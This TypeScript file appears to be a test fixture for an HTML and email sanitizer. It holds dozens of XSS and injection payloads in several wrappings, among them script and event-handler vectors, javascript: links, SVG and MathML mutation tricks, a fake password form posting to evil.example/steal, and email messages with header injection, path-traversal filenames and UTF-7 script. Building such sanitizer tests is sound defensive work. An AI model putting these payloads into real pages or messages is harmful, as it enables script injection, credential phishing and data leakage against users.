/**
 * HTML that tries to run a script, to ask another host, or to lead its reader away: each way in each of a few wrappings, so that what is
 * taken out in one place and not in another is found. Whatever it reaches says `OWNED` or asks for something at `evil.example`.
 */
const RUNS = "alert('OWNED')";
const EVIL = 'http://evil.example';

const WAYS: readonly string[] = [
  `<script>${RUNS}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${RUNS}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/pixel.png 1x, ${EVIL}/large.png 2x">`,
  `<picture><source srcset="${EVIL}/p.webp"><img src="//evil.example/p.png"></picture>`,
  `<body onload="${RUNS}" background="${EVIL}/b.png">`,
  `<svg onload="${RUNS}"><script>${RUNS}</script></svg>`,
  `<svg><image href="${EVIL}/i.png"/><use href="${EVIL}/u.svg#x"/></svg>`,
  `<svg><animate onbegin="${RUNS}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUNS}</script>"></iframe></foreignObject></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUNS}</script>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUNS}"></style></mglyph></table></mtext></math>`,
  `<form action="${EVIL}/steal"><input name=p type=password autofocus onfocus="${RUNS}"><button>ok</button></form>`,
  `<form id=f action="javascript:${RUNS}"></form><button form=f formaction="javascript:${RUNS}">x</button>`,
  `<a href="javascript:${RUNS}">x</a><a href="&#106;avascript:${RUNS}">y</a><a href="java\tscript:${RUNS}">z</a>`,
  `<a href="data:text/html,<script>${RUNS}</script>">x</a>`,
  `<iframe src="javascript:${RUNS}"></iframe><iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>top.${RUNS}</script>"></iframe>`,
  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><applet code=x>`,
  `<object data="data:text/html,<script>${RUNS}</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${EVIL}/m.png">`,
  `<base href="${EVIL}/"><img src="relative.png"><a href="relative">x</a>`,
  `<link rel=stylesheet href="${EVIL}/s.css"><link rel=prefetch href="${EVIL}/pre"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import url("${EVIL}/i.css"); body { background: url("${EVIL}/bg.png") }</style>`,
  `<style>@font-face { font-family: x; src: url("${EVIL}/f.woff") } * { font-family: x; list-style: url("${EVIL}/l.png") }</style>`,
  `<div style="background-image: url(${EVIL}/d.png); width: expression(${RUNS})">x</div>`,
  `<div style="position: fixed; inset: 0; z-index: 9999; background: url('${EVIL}/cover.png')">log in again</div>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/v.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<table background="${EVIL}/t.png"><tr><td background="//evil.example/td.png">x</table>`,
  `<input type=image src="${EVIL}/in.png"><isindex action="${EVIL}/">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>"></noscript>`,
  `<template><script>${RUNS}</script></template><xmp><img src=x onerror=${RUNS}></xmp>`,
  `<div id=location></div><form name=document><input name=cookie></form><a id=top href="${EVIL}">x</a>`,
  `<html title="a><head>"><head title="><img src=${EVIL}/h.png>"><style>p{background:url(${EVIL}/q.png)}</style>`,
  `<a href="${EVIL}/click" target=_top ping="${EVIL}/ping">x</a>`,
  `<details open ontoggle="${RUNS}">x</details><marquee onstart="${RUNS}">x</marquee>`,
  `<portal src="${EVIL}/p"></portal><frameset onload="${RUNS}"><frame src="${EVIL}/f"></frameset>`,
  `<img src="cid:none" onerror="${RUNS}"><img src="file:///etc/passwd"><img src="/api/v1/session">`,
];

const WRAPPINGS: readonly ((html: string) => string)[] = [
  (html) => `<!doctype html><html><head><title>x</title></head><body><p>shown</p>${html}</body></html>`,
  (html) => `<p>shown</p>${html}`,
  (html) => `<p>shown</p></body></html>${html}<!-- <p> -->${html}`,
  (html) => `<head>${html}</head><p>shown</p>${'<div>'.repeat(600)}${html}`,
  (html) => `<p>shown</p><table><tr><td><font><center>${html.toUpperCase()}`,
];

/** 200 of them. */
export const HOSTILE_HTML: readonly string[] = WAYS.flatMap((way) => WRAPPINGS.map((wrap) => wrap(way)));

/** Whole messages that are wrong in other ways than their HTML. */
export const HOSTILE_MESSAGES: readonly string[] = [
  `Subject: =?utf-8?q?=0D=0ASet-Cookie:_x=3D1?=\r\nContent-Type: text/html\r\n\r\n<p>shown`,
  `Subject: <script>${RUNS}</script>\r\nFrom: "<img src=x onerror=${RUNS}>" <a@example.org>\r\n\r\nshown`,
  `Subject: deep\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(500)}shown\r\n`,
  `Subject: name\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; name="../../<b>x.html"\r\nContent-Disposition: attachment; filename="..\\\\..\\\\<img src=x onerror=${RUNS}>.html"\r\n\r\n<script>${RUNS}</script>\r\n--b--\r\n`,
  `Subject: wide\r\nContent-Type: text/html\r\n\r\n<p>shown</p>${'<b>'.repeat(20_000)}\r\n`,
  `Content-Type: text/html; charset=utf-7\r\n\r\n<p>shown</p>+ADw-script+AD4-${RUNS}+ADw-/script+AD4-\r\n`,
];
